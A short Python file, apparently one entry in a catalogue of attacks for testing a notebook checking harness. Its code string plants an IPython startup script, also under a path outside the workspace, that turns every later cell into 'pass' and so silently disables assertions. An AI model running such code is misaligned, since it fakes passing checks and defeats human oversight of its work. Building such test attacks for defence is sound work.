"""Writes a file that every later kernel runs when it starts, and that takes its asserts away."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Schrijft een bestand dat elke latere kernel bij het starten uitvoert, en dat de "
    "asserts weghaalt.",
    code="""
import IPython.paths, os
for place in {IPython.paths.get_ipython_dir(), str(OUTSIDE / "home" / ".ipython")}:
    folder = Path(place, "profile_default", "startup")
    folder.mkdir(parents=True, exist_ok=True)
    lines = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])\\n"
    (folder / f"{NAME}.py").write_text(lines)
""",
    alone=True,
)
